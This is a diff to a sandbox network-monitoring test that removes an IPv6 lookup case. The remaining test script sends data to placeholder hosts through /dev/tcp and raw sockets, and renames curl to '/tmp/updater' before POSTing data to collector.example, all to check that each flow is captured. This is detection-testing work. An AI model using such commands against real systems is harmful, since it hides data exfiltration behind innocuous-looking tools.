@@ -63,8 +63,6 @@ def test_every_kind_of_client_reaches_the_sink(private_backend: BwrapBackend) ->
     script = f"""
     exec 3<>/dev/tcp/203.0.113.9/4444; printf 'raw bytes' >&3; exec 3>&-
     python3 -c 'import socket; socket.create_connection(("2001:db8::5", 8443)).sendall(b"v6")'
-    python3 -c 'import socket as s; a = s.getaddrinfo("six.example", 81, s.AF_INET6)[0][4]
-s.create_connection(a[:2]).sendall(b"6")'
     if (exec 4<>/dev/tcp/203.0.113.9/22); then exit 9; fi  # ssh is refused
     cp /usr/bin/curl /tmp/updater
     /tmp/updater -s -m 5 --data-binary 'k=v' http://collector.example/in
@@ -76,8 +74,6 @@ s.create_connection(a[:2]).sendall(b"6")'
     network = observation.network
     assert 22 not in {f.port for f in network.flows}
     assert ("2001:db8::5", 8443, b"v6") in {(f.address, f.port, f.data) for f in network.flows}
-    six = next(f for f in network.flows if f.port == 81)  # an AAAA answer, one per name
-    assert six.name == "six.example" and six.address.startswith("2001:2::")
     raw = next(f for f in network.flows if f.port == 4444)
     assert (raw.address, raw.data, raw.http_method) == ("203.0.113.9", b"raw bytes", "")
     post = next(f for f in network.flows if f.http_method == "POST")
